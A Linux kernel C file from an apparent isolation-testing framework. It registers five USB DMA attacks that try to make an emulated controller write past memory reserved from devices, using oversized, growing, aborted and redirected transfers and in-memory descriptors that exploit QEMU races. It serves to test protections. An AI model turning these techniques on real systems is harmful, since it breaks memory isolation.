// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have a USB controller leave the memory that was checked: a transfer over the edge of
 * what devices reach, one that grows, one that was given up and arrives late, and
 * lists of transfers in memory.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/of.h>
#include <linux/of_address.h>
#include <linux/sizes.h>
#include <linux/string.h>

#include "attack.h"
#include "device/disk.h"
#include "device/usb_disk.h"

#define SECTOR		512
/* Two of these fill the disk's buffer */
#define PIECE		SZ_64K
/* A transfer of a sector may begin so far before the edge, and not closer */
#define DISTANCE	(SECTOR + 2048)
#define DESCRIPTORS	0x00800000U
/* No valid descriptor, whatever becomes of it */
#define MARK		0x5bde71ce5bde7100UL
/* Races with the disk are tried so often, and for so long */
#define TRIES		5
#define PATIENCE_MS	5000

/* First byte of the memory that no device reaches; 0 if there is none. */
static u64 edge(void)
{
	struct device_node *node = of_find_compatible_node(NULL, NULL, "donjon,reserve");
	struct resource found;
	u64 start = 0;

	if (node && !of_address_to_resource(node, 0, &found))
		start = found.start;
	of_node_put(node);
	if (!start)
		attack_untried("no memory is kept from devices");
	return start;
}

/* A page around the edge, of which devices reach what is before it */
struct page_at_edge {
	u64 address;
	u64 *copy;
	/* A word behind the edge that was zero */
	unsigned int word;
};

/* On the disk stands what is there, with one word more. */
static bool prepare(struct page_at_edge *page)
{
	if (!disk_works())
		return false;
	page->address = edge();
	if (!page->address)
		return false;
	page->address -= DISTANCE;
	page->copy = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	memcpy(page->copy, __va(page->address), PAGE_SIZE);
	page->word = zero_words(page->copy, 1);
	if (page->word < DISTANCE / sizeof(u64)) {
		attack_untried("no word of zeros behind the edge");
		free_page((unsigned long)page->copy);
		return false;
	}
	page->copy[page->word] = MARK;
	disk_write(DISK_MARKED, __pa(page->copy));
	page->copy[page->word] = 0;
	return true;
}

static bool is_written(const struct page_at_edge *page)
{
	return READ_ONCE(((u64 *)__va(page->address))[page->word]) == MARK;
}

/* What was `made` of the attempt: 0 if it came to nothing. */
static void judge(const struct page_at_edge *page, unsigned int made)
{
	if (!made) {
		attack_untried("no transfer could be made");
		free_page((unsigned long)page->copy);
		return;
	}
	if (is_written(page)) {
		attack_succeeded("word %u behind the edge at %#llx is written", page->word,
				 page->address + DISTANCE);
		undo_later(disk_put_back, page->address, (u64)page->copy);
		return;
	}
	free_page((unsigned long)page->copy);
	if (disk_works())
		attack_stopped("the frame is as before");
}

/* Until one of two words is `value`, or long enough. */
static void wait_for_word(const u64 *first, const u64 *second, u64 value)
{
	int waited;

	for (waited = 0; waited < PATIENCE_MS; waited++) {
		if (READ_ONCE(*first) == value || (second && READ_ONCE(*second) == value))
			return;
		usleep_range(900, 1100);
	}
}

/* One transfer, to both sides of the edge. */
static void over_edge(void)
{
	struct page_at_edge page;

	if (!prepare(&page))
		return;
	disk_read(DISK_MARKED, page.address);
	judge(&page, 1);
}

/* A transfer of a sector before the edge, which becomes longer while the disk looks for it. */
static void grows(void)
{
	struct page_at_edge page;
	unsigned int made = 0;
	int i;

	if (!prepare(&page))
		return;
	for (i = 0; i < TRIES && !is_written(&page); i++) {
		if (!usb_disk_begin(true, DISK_MARKED, PAGE_SIZE))
			break;
		if (usb_disk_start(true, page.address, SECTOR)) {
			usb_write(usb_channel(USB_AMOUNT), usb_amount(PAGE_SIZE));
			made += usb_disk_wait();
		}
		if (!is_written(&page))
			usb_disk_drain();
		usb_disk_end();
	}
	judge(&page, made);
}

/*
 * A transfer that is given up while the disk looks for it, and an address over the
 * edge: QEMU writes what comes to the address that the channel has then.
 */
static void late(void)
{
	struct page_at_edge page;
	unsigned int made = 0;
	u64 *own;
	int i;

	if (!prepare(&page))
		return;
	own = (u64 *)__get_free_page(GFP_KERNEL | __GFP_NOFAIL);
	for (i = 0; i < TRIES && !is_written(&page); i++) {
		if (!usb_disk_begin(true, DISK_MARKED, PAGE_SIZE))
			break;
		clear_page(own);
		if (usb_disk_start(true, __pa(own), PAGE_SIZE)) {
			usb_disk_stop();
			usb_write(usb_channel(USB_ADDRESS), usb_address(page.address));
			made++;
		}
		/* Nothing tells that it has come but what is there */
		wait_for_word(&own[page.word], (u64 *)__va(page.address) + page.word, MARK);
		usb_disk_end();
	}
	free_page((unsigned long)own);
	judge(&page, made);
}

/*
 * A transfer to the disk that is given up while the disk waits, and one from a device
 * that does not exist, to before the edge: QEMU writes what was read for the first to
 * where the second goes. The disk waits when its buffer is full.
 */
static void turns(void)
{
	struct page_at_edge page;
	bool is_refused = false;
	unsigned int made = 0;
	void *full;
	int i;

	if (!prepare(&page))
		return;
	full = (void *)__get_free_pages(GFP_KERNEL | __GFP_NOFAIL, get_order(PIECE));
	page.copy[page.word] = MARK;
	for (i = 0; i < TRIES && !is_written(&page) && !is_refused; i++) {
		if (!usb_disk_begin(false, DISK_MARKED + 1, 2 * PIECE + PAGE_SIZE))
			break;
		if (usb_disk_start(false, __pa(full), PIECE) && usb_disk_wait() &&
		    usb_disk_start(false, __pa(full), PIECE) && usb_disk_wait() &&
		    usb_disk_start(false, __pa(page.copy), PAGE_SIZE)) {
			usb_disk_stop();
			is_refused = !usb_nothing_start(true, page.address, SECTOR);
			made++;
		}
		wait_for_word((u64 *)__va(page.address) + page.word, NULL, MARK);
		usb_disk_stop();
		usb_disk_end();
	}
	free_pages((unsigned long)full, get_order(PIECE));
	page.copy[page.word] = 0;
	judge(&page, made);
}

/* Addresses in memory instead of registers. QEMU's controller keeps the bit, and no more. */
static void descriptors(void)
{
	u32 old;

	if (!disk_works())
		return;
	old = usb_read(USB_HCFG);
	usb_write(USB_HCFG, old | DESCRIPTORS);
	if (usb_read(USB_HCFG) & DESCRIPTORS)
		attack_succeeded("the controller takes its addresses from memory");
	else
		attack_stopped("its addresses stay in registers");
	usb_write(USB_HCFG, old);
}

DONJON_ATTACK("usb-dma", "edge", over_edge);
DONJON_ATTACK("usb-dma", "size", grows);
DONJON_ATTACK("usb-dma", "descriptors", descriptors);
DONJON_ATTACK("usb-dma", "turn", turns);
DONJON_ATTACK("usb-dma", "late", late);
